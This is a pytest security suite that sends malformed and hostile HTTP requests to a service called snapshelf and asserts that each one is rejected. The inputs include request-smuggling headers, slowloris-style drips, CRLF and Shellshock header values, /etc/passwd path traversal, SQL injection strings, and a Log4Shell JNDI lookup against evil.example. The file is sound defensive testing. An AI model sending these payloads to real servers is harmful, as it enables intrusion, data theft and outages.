"""Attacks with requests: framing, headers, addresses, forms, JSON and filters."""

import json
import socket
import time
from collections.abc import Iterator
from contextlib import ExitStack, closing
from urllib.parse import quote, urlsplit

import httpx
import pytest
from security_parts import SCRIPT, TYPE, form, shows_nothing, still_well, watched
from service_parts import ids, is_problem, png, raw, raw_bytes

from snapshelf.service import Settings

JSON = {"Content-Type": "application/json"}


@pytest.fixture(scope="module")
def server(made) -> Iterator[httpx.Client]:
    settings = Settings(
        requests_per_minute=1_000_000, silence_s=1.0, upload_s=2.0, headers_s=1.0, write_s=30.0
    )
    with watched(made, settings) as client:
        yield client


@pytest.fixture(autouse=True)
def stays_well(server: httpx.Client) -> Iterator[None]:
    yield
    still_well(server)


# --- where a request ends --------------------------------------------------------------------

POST = "POST /v1/search HTTP/1.1\nHost: x\nContent-Type: image/png\n"
HIDDEN = b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n"
SMUGGLED = {
    "two lengths": (POST + "Content-Length: 3\nContent-Length: 40", b"abc" + HIDDEN),
    "two lengths in one": (POST + "Content-Length: 3, 40", b"abc" + HIDDEN),
    "a length with a sign": (POST + "Content-Length: +3", b"abc" + HIDDEN),
    "a length in hex": (POST + "Content-Length: 0x3", b"abc" + HIDDEN),
    "a length that is none": (POST + "Content-Length: 3\x0b", b"abc" + HIDDEN),
    "a length and chunks": (
        POST + "Content-Length: 5\nTransfer-Encoding: chunked",
        b"0\r\n\r\n" + HIDDEN,
    ),
    "chunks and a length": (
        POST + "Transfer-Encoding: chunked\nContent-Length: 5",
        b"0\r\n\r\n" + HIDDEN,
    ),
    "chunks twice": (
        POST + "Transfer-Encoding: chunked\nTransfer-Encoding: identity",
        b"0\r\n\r\n" + HIDDEN,
    ),
    "chunks of another name": (POST + "Transfer-Encoding: xchunked", b"0\r\n\r\n" + HIDDEN),
    "chunks behind gzip": (POST + "Transfer-Encoding: gzip, chunked", b"0\r\n\r\n" + HIDDEN),
    "a blank before the colon": (POST + "Transfer-Encoding : chunked", b"0\r\n\r\n" + HIDDEN),
    "a folded header": (POST + "Transfer-Encoding:\n chunked", b"zz\r\n\r\n" + HIDDEN),
    "a chunk whose size is none": (POST + "Transfer-Encoding: chunked", b"-3\r\nabc\r\n" + HIDDEN),
    "a chunk of too many digits": (
        POST + "Transfer-Encoding: chunked",
        b"0" * 60 + b"3\r\nabc\r\n0\r\n\r\n",
    ),
    "a null in a header": (POST + "X: a\0b\nContent-Length: 3", b"abc" + HIDDEN),
}


@pytest.mark.parametrize("name", SMUGGLED)
def test_no_second_request_is_smuggled_in(server: httpx.Client, name: str) -> None:
    head, body = SMUGGLED[name]
    told = raw(server, head, body).decode("latin-1")
    shows_nothing(told)
    assert told.startswith(("HTTP/1.1 4", "HTTP/1.1 501")), told[:200]
    assert told.count("HTTP/1.1 ") == 1, "the connection ends with the answer"
    assert "snapshelf_" not in told


def test_requests_in_a_row_get_their_own_answers(server: httpx.Client) -> None:
    body = png(3)
    search = POST.replace("\n", "\r\n").encode() + b"Content-Length: %d\r\n\r\n" % len(body) + body
    last = b"GET /v1/none HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    told = raw_bytes(server, search + last).decode("latin-1")
    assert told.index("HTTP/1.1 200") < told.index('"P3"') < told.index("HTTP/1.1 404")
    assert told.count("HTTP/1.1 ") == 2


@pytest.mark.parametrize(
    "sent",
    [
        b"\0" * 5000,
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"GET /v1/shelf\r\n\r\n",
        b"GET  /v1/shelf HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /v1/shelf HTTP/9.9\r\nHost: x\r\n\r\n",
        b"G\xc3\x89T /v1/shelf HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /v1/\xff HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /v1/shelf HTTP/1.1\r\nHost: x\r\n" + b"A: b\r\n" * 20_000 + b"\r\n",
        b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /v1/shelf HTTP/1.1\r\n\r\n",
        b"GET /v1/shelf HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n",
    ],
)
def test_what_is_no_request_is_told_so_and_shown_nothing(server: httpx.Client, sent: bytes) -> None:
    told = raw_bytes(server, sent).decode("latin-1")
    shows_nothing(told)
    assert told == "" or told.startswith("HTTP/1.1 4"), told[:200]


@pytest.mark.parametrize("upgrade", ["websocket", "h2c", "TLS/1.0"])
def test_nothing_is_upgraded_to(server: httpx.Client, upgrade: str) -> None:
    headers = {"Connection": "Upgrade", "Upgrade": upgrade, "Sec-WebSocket-Key": "a" * 24}
    answer = server.get("/v1/shelf", headers=headers)
    assert answer.status_code == 200
    assert "upgrade" not in answer.headers


# --- time ------------------------------------------------------------------------------------


def test_headers_that_drip_are_not_waited_for(server: httpx.Client) -> None:
    place = urlsplit(str(server.base_url))
    with ExitStack() as stack:
        wires = [
            stack.enter_context(
                closing(socket.create_connection((place.hostname, place.port), timeout=20))
            )
            for _ in range(30)
        ]
        start = time.monotonic()
        for wire in wires[:20]:
            wire.sendall(b"GET /v1/shelf HTTP/1.1\r\nHost: x\r\n")  # the others send nothing
        still_well(server)
        open_ones = set(wires)
        while open_ones:
            assert time.monotonic() - start < 15, "a connection is held open"
            for wire in list(open_ones):
                wire.settimeout(0.05)
                try:
                    wire.sendall(b"X: y\r\n")
                    if not wire.recv(4096):
                        open_ones.discard(wire)
                except TimeoutError:
                    pass
                except ConnectionError:
                    open_ones.discard(wire)
    assert time.monotonic() - start >= 0.5


def test_a_body_that_drips_is_not_waited_for(server: httpx.Client) -> None:
    head = POST + "Content-Length: 100000"
    assert b" 408 " in raw(server, head, *[b"a"] * 12, pause=0.3).split(b"\r\n")[0]
    head = POST + "Transfer-Encoding: chunked"
    assert b" 408 " in raw(server, head, *[b"1\r\na\r\n"] * 12, pause=0.3).split(b"\r\n")[0]


def test_a_client_that_asks_and_does_not_read_keeps_nobody_waiting(server: httpx.Client) -> None:
    place = urlsplit(str(server.base_url))
    with ExitStack() as stack:
        for _ in range(10):
            wire = stack.enter_context(
                closing(socket.create_connection((place.hostname, place.port), timeout=20))
            )
            wire.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
            wire.sendall(b"GET /v1/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * 20)
        still_well(server)


# --- headers ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "headers",
    [
        {"Host": "evil.example"},
        {"Host": "evil.example:99999"},
        {"Host": f"x/{SCRIPT}"},
        {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "javascript"},
        {"X-Forwarded-For": "evil.example," * 500},
        {"X-Forwarded-For": f"{SCRIPT}, ::1%eth0, 999.1.1.1"},
        {"X-Forwarded-Prefix": "/evil.example", "Forwarded": 'host="evil.example";proto=http'},
        {"X-Original-URL": "/metrics", "X-Rewrite-URL": "/metrics"},
        {"X-HTTP-Method-Override": "DELETE", "X-HTTP-Method": "PUT", "X-Method-Override": "TRACE"},
        {"Range": "bytes=" + ",".join(f"{n}-{n}" for n in range(2_000))},
        {"Accept": "text/html", "Accept-Language": "evil.example", "Accept-Encoding": "x" * 9_000},
        {"If-None-Match": "*", "If-Modified-Since": "Thu, 01 Jan 2099 00:00:00 GMT"},
        {"Cookie": "key=evil.example;" * 900},
        {"Authorization": "Bearer " + "é".encode().decode("latin-1")},
        {"Referer": "javascript:alert(1)", "User-Agent": "() { :; }; /bin/sh"},
    ],
)
def test_headers_change_nothing(server: httpx.Client, headers: dict[str, str]) -> None:
    sent = {name: value.encode("latin-1") for name, value in headers.items()}
    plain, told = server.get("/v1/shelf"), server.get("/v1/shelf", headers=sent)
    assert (told.status_code, told.content) == (200, plain.content)
    assert "evil" not in str(told.headers)
    assert {*told.headers} == {*plain.headers}


@pytest.mark.parametrize("name", ["X-Request-ID", "Origin", "X-Forwarded-For", "Content-Type"])
def test_no_line_break_gets_into_an_answers_headers(server: httpx.Client, name: str) -> None:
    for value in ("a\r\n Set-Cookie: b=1", "a%0d%0aSet-Cookie:%20b=1", "a\\r\\nSet-Cookie: b=1"):
        told = raw(server, f"GET /v1/shelf HTTP/1.1\nHost: x\nConnection: close\n{name}: {value}")
        assert "set-cookie" not in told.split(b"\r\n\r\n")[0].decode("latin-1").lower()
        shows_nothing(told.decode("latin-1"))


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "PATCH", "PROPFIND", "DELETED", "A" * 5000])
def test_other_methods_do_nothing(server: httpx.Client, method: str) -> None:
    answer = server.request(method, "/v1/products/P1", headers={"X-Secret": "told"})
    assert answer.status_code in (400, 405)
    assert "told" not in answer.text


# --- addresses -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "product",
    [
        "../../etc/passwd",
        "..\\..\\etc\\passwd",
        "/etc/passwd",
        "file:///etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "P1\0",
        "P1\r\nSet-Cookie: a",
        "p1",
        " P1",
        "Ｐ１",
        "P\u200b1",
        "\u202eP1",
        "P1'--",
        "P1' UNION SELECT * FROM product--",
        "P_",
        "P%",
        "*",
    ],
)
def test_ids_are_compared_letter_by_letter(server: httpx.Client, product: str) -> None:
    for suffix in ("", "/similar", "/images/0"):
        answer = server.get(f"/v1/products/{quote(product, safe='')}{suffix}")
        is_problem(answer, 404, "not-found")
        assert "set-cookie" not in answer.headers


def test_overlong_and_broken_utf8_is_no_path(server: httpx.Client) -> None:
    for path in ("%c0%ae%c0%ae%2fetc", "%ed%a0%80", "%f4%90%80%80", "%", "%zz", "%u0050%u0031"):
        answer = server.get(f"/v1/products/{path}")
        assert answer.status_code in (400, 404), answer.text


@pytest.mark.parametrize(
    "number", ["-1", "1e3", "0x0", "٠", "0/../0", "9" * 30, "0\0", "..%2f0", "1.0", "NaN"]
)
def test_a_pictures_number_is_a_number(server: httpx.Client, number: str) -> None:
    answer = server.get(f"/v1/products/P1/images/{quote(number, safe='%')}")
    assert answer.status_code in (404, 422), answer.text


@pytest.mark.parametrize(
    "target",
    ["http://evil.example/v1/shelf", "//evil.example/v1/shelf", "*", "/v1/./shelf", "/V1/shelf"],
)
def test_only_the_addresses_of_the_document_are_some(server: httpx.Client, target: str) -> None:
    told = raw(server, f"GET {target} HTTP/1.1\nHost: x\nConnection: close").decode("latin-1")
    shows_nothing(told)
    assert told.startswith(("HTTP/1.1 404", "HTTP/1.1 400")), told[:200]
    assert "\r\nlocation:" not in told.lower()


# --- forms and JSON --------------------------------------------------------------------------

PART = 'Content-Disposition: form-data; name="{}"'
FILE = PART + '; filename="a.png"'
FORMS = {
    "very many parts": form(*[(PART.format("top"), b"1")] * 20_000),
    "very many files": form(*[(FILE.format("picture"), png(1))] * 300),
    "very many headers of a part": form(
        (FILE.format("picture") + "".join(f"\r\nX-{n}: y" for n in range(5_000)), png(1))
    ),
    "a name with a null": form((FILE.format("pic\0ture"), png(1))),
    "a name of a prototype": form(
        (FILE.format("picture"), png(1)), (PART.format("__proto__"), b"{}")
    ),
    "a boundary of 20,000 letters": form((FILE.format("picture"), png(1)), boundary="b" * 20_000),
    "a form in a form": form(
        (
            'Content-Disposition: form-data; name="picture"; filename="a"\r\n'
            "Content-Type: multipart/mixed; boundary=y",
            form((FILE.format("picture"), png(1)))[1],
        )
    ),
    "bytes that are no text": form(
        (FILE.format("picture"), png(1)), (PART.format("filter"), b"\xff\xfe=1")
    ),
    "an option of a megabyte": form(
        (FILE.format("picture"), png(1)), (PART.format("filter"), b"a" * 1_000_000)
    ),
    "an option that is twice": form(
        (FILE.format("picture"), png(1)), (PART.format("top"), b"1"), (PART.format("top"), b"2")
    ),
}


@pytest.mark.parametrize("name", FORMS)
def test_forms_are_bounded(server: httpx.Client, name: str) -> None:
    headers, body = FORMS[name]
    start = time.monotonic()
    answer = server.post("/v1/search", content=body, headers=headers)
    assert answer.status_code in (400, 413, 422, 431), answer.text
    assert time.monotonic() - start < 10


BODIES = {
    "deep lists": b"[" * 500_000,
    "deep objects": b'{"a":' * 200_000,
    "deep where a list may be": b'{"picture": "AAAA", "boxes": ' + b"[" * 300_000,
    "a number of 100,000 digits": b'{"picture": "AAAA", "top": ' + b"9" * 100_000 + b"}",
    "a number beyond all": b'{"picture": "AAAA", "in_catalogue": 1e400}',
    "not a number": b'{"picture": "AAAA", "in_catalogue": NaN}',
    "endless": b'{"picture": "AAAA", "boxes": [[-Infinity, 0, Infinity, 1]]}',
    "half a surrogate pair": b'{"picture": "AAAA", "filter": "brand=\\ud800"}',
    "a key twice": b'{"picture": "AAAA", "filter": "\\u0000", "top": 1, "top": 1e9}',
    "a prototype": b'{"picture": "AAAA", "__proto__": {"top": 1}}',
    "a wrong coding": '{"picture": "AAAA"}'.encode("utf-16"),
    "base64 with more behind it": b'{"picture": "AAAA====%00"}',
}


@pytest.mark.parametrize("name", BODIES)
def test_json_is_bounded(server: httpx.Client, name: str) -> None:
    start = time.monotonic()
    for path in ("/v1/search", "/v1/events"):
        answer = server.post(path, content=BODIES[name], headers=JSON)
        assert answer.status_code in (400, 422), answer.text
        assert len(answer.content) < 5_000, "what was sent is not sent back"
    assert time.monotonic() - start < 10


# --- filters ---------------------------------------------------------------------------------

INJECTED = [
    "id=P1' OR '1'='1",
    'id="P1\') OR 1=1 --"',
    '"brand\' OR 1=1 --"=Acme',
    '"x\') UNION SELECT hash FROM key --"=1',
    "brand=Acme; DROP TABLE product",
    "price<80) OR (1=1",
    "brand=%",
    "brand=A_me",
    "brand=Acme\0",
    "brand=*",
    "brand=${jndi:ldap://evil.example/a}",
    "brand={{7*7}}",
]


@pytest.mark.parametrize("text", INJECTED)
def test_filters_are_no_sql_and_no_pattern(server: httpx.Client, text: str) -> None:
    answer = server.post("/v1/search", params={"filter": text}, content=png(1), headers=TYPE)
    if answer.status_code == 200:
        assert ids(answer.json()) == []
    else:
        is_problem(answer, 422, "invalid")
    assert "SELECT" not in answer.text or text in json.loads(answer.content)["detail"]


@pytest.mark.parametrize(
    "text",
    [
        " " * 4_000,
        '"' + "\\" * 3_998,
        '"' + "a\\" * 1_999,
        "a" + " " * 3_990 + "!",
        "price<" + "9" * 3_900,
        "price<0." + "9" * 3_900,
        "price<" + "1" * 20 + " " * 3_900 + "x",
        "category=" + "a>" * 1_990,
        ",".join(["a=1"] * 1_000),
        "|".join(["brand=a", *["b"] * 1_900]),
    ],
)
def test_no_filter_takes_long(server: httpx.Client, text: str) -> None:
    start = time.monotonic()
    answer = server.post("/v1/search", params={"filter": text}, content=png(1), headers=TYPE)
    assert answer.status_code in (200, 422), answer.text
    assert time.monotonic() - start < 5


@pytest.mark.parametrize("top", ["٣", "1_0", "0x10", "1e1", " 3 ", "+3", "3.0", "3\0", "9" * 5_000])
def test_numbers_of_other_scripts_and_forms_are_read_safely(server: httpx.Client, top: str) -> None:
    answer = server.post("/v1/search", params={"top": top}, content=png(1), headers=TYPE)
    if answer.status_code == 200:
        assert len(ids(answer.json())) <= 6
    else:
        is_problem(answer, 422, "invalid")


def test_very_many_options_are_refused(server: httpx.Client) -> None:
    for options in ("a=1&" * 5_000, "boxes=0,0,9,9&" * 1_500, "top=1&" * 4_000):
        answer = server.post(f"/v1/search?{options}", content=png(1), headers=TYPE)
        assert answer.status_code in (400, 422), answer.status_code
